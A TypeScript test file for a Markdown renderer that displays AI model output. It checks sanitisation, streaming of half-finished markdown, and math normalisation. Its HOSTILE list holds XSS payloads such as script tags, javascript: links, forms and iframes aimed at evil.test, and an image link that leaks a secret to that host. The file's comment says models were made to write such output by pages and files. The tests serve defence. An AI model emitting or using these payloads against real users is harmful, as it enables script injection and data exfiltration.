import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from './markdown.tsx'
import { hasMath, normalizeMath } from './normalize-math.ts'

const render = (text: string, isStreaming = false) =>
  renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />)

/** What models were made to write by pages, files and jokers. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.test"><input name=p></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](/api/trpc/chat.remove)',
  '[x](//evil.test)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![secret](https://evil.test/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.test/a.png)](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>x</script> | [y](javascript:z) |\n|---|---|\n| <b onclick=x> | ![i](http://e.test/i) |',
  '- [x] <img src=x onerror=alert(1)>',
  '\\href{javascript:alert(1)}{x} $$\\href{javascript:alert(1)}{x}$$',
  'text[^1]\n\n[^1]: <script>alert(1)</script>',
]

describe('hostile text', () => {
  it.each(HOSTILE.flatMap((text) => [[text, false] as const, [text, true] as const]))(
    '%s (streaming: %s)',
    (text, isStreaming) => {
      const html = render(text, isStreaming)
      const tags = html.match(/<[a-z][^>]*>/gi)?.join('\n') ?? ''
      expect(tags).not.toMatch(/<(script|iframe|img|style|form|meta|input|object|embed|base|link)\b/i)
      expect(tags).not.toMatch(/\son[a-z]+=/i)
      for (const [, href = ''] of tags.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:|mailto:|#)/)
    },
  )
  it.each([
    ['quotes', '> '.repeat(4000)],
    ['quotes without spaces', '>'.repeat(4000)],
    ['bullets', '- '.repeat(2000)],
    ['numbers', '1. '.repeat(2000)],
    ['formulas that only begin', '\\['.repeat(15_000)],
  ])('takes %s without end, as a model writes them that repeats itself', (_, marks) => {
    expect(render(`${marks}so`)).toContain('so')
    expect(() => render(`${marks}so`, true)).not.toThrow()
  })
  it('shows HTML as the text that it is', () => {
    expect(render('a <b>bold</b> move')).toContain('&lt;b&gt;bold&lt;/b&gt;')
  })
  it('reads the few tags that markdown has no sign for, without attributes only', () => {
    expect(render('| a |\n|---|\n| one<br>two<br/>three |')).toContain('one<br/>two<br/>three')
    expect(render('H<sub>2</sub>O, <kbd>Ctrl</kbd>')).toContain('H<sub>2</sub>O, <kbd>Ctrl</kbd>')
    expect(render('<sup onclick=x>2</sup> and <sub>open')).not.toMatch(/<su[bp]/)
  })
  it('has no dead way back under a footnote', () => {
    const html = render('It is so.[^1]\n\n[^1]: Says who.')
    expect(html).toContain('Says who.')
    expect(html).not.toContain('↩')
    expect(html).toContain('<h3 class="sr-only">Footnotes</h3>')
  })
  it('opens links elsewhere, without a word on where they were clicked', () => {
    expect(render('[docs](https://example.test/a)')).toContain(
      'href="https://example.test/a" target="_blank" rel="noopener noreferrer nofollow"',
    )
  })
})

describe('half-finished markdown', () => {
  it.each([
    ['**bold te', /<strong>bold te<span class="caret"/],
    ['`cod', /<code>cod<span class="caret"/],
    ['see [the do', /see the do/],
    ['- one\n- two', /<li>two<span class="caret"/],
    ['| a | b |\n|---|---|\n| 1 |', /<table/],
    ['| a | b |\n|---|---|\n| *only x | y |\n| on', /<td[^>]*>on<span class="caret"/],
    ['| a | b |\n|---|---|\n| 1 | **bo', /<td[^>]*><strong>bo<span class="caret"/],
    ['```py\nprint(1', /Python/],
    ['so \\[\n\\int_0^1 x dx', /so<span class="caret"/],
    ['so\n$$\n\\frac{1}', /so<span class="caret"/],
    ['run `kill $$` and', /kill \$\$/],
  ])('%j', (text, expected) => {
    const html = render(text, true)
    expect(html).toMatch(expected)
    expect(html).not.toContain('streamdown:')
    expect(html.match(/class="caret"/g)).toHaveLength(1)
  })
})

describe('normalizeMath', () => {
  it.each([
    ['It is \\(x^2\\).', 'It is $$x^2$$.'],
    ['\\[a\\]', '\n$$\na\n$$\n'],
    ['so $x^2$ holds', 'so $$x^2$$ holds'],
    ['$$E=mc^2$$', '$$\nE=mc^2\n$$'],
  ])('%s', (written, read) => expect(normalizeMath(written)).toBe(read))
  it.each(['It costs $5 and $10.', 'from $5-$10', '`$a$`', '```sh\necho $HOME $PATH\n```', 'a \\$b$'])(
    'leaves %j alone',
    (text) => {
      expect(normalizeMath(text)).toBe(text)
      expect(hasMath(text)).toBe(false)
    },
  )
})

describe('a paragraph that is seen growing', () => {
  const words = 'Some words, and more of them. '.repeat(60)
  const withMarkup = `${words}Then **strong** and \`code\`. ${words}`

  it.each([words, withMarkup])('stands as the finished one does', (text) => {
    const growing = render(text, true)
    expect(growing.match(/<p>/g)).toHaveLength(1)
    expect(growing.replace('<span class="caret" aria-hidden="true"></span>', '')).toBe(render(text))
  })
})

describe('code whose fence is half written', () => {
  it('shows no mark that will end it, and no half of a language', () => {
    expect(render('```js\nconst a = 1\n``', true)).not.toContain('`')
    expect(render('```js\nconst a = `b``', true)).toContain('`b``')
    expect(render('```java', true)).not.toContain('Java')
    expect(render('```js\nconst a = 1\n``')).toContain('``')
  })
})

describe('text that was broken off', () => {
  const broken = (text: string) => renderToStaticMarkup(<Markdown text={text} isBrokenOff />)
  it('closes what was half written, and leaves nothing of it out', () => {
    expect(broken('Light: **short wa')).toContain('<strong>short wa</strong>')
    expect(broken('See `a && b')).toContain('<code>a &amp;&amp; b</code>')
    expect(broken('So \\[ x^2')).toContain('x^2')
    expect(broken('One *a\n\nTwo **b')).toContain('<strong>b</strong>')
  })
  it('takes marks in a text that ended by itself for what the model meant', () => {
    expect(render('2 ** 3')).toContain('2 ** 3')
    expect(render('Light: **short wa')).not.toContain('<strong>')
  })
})
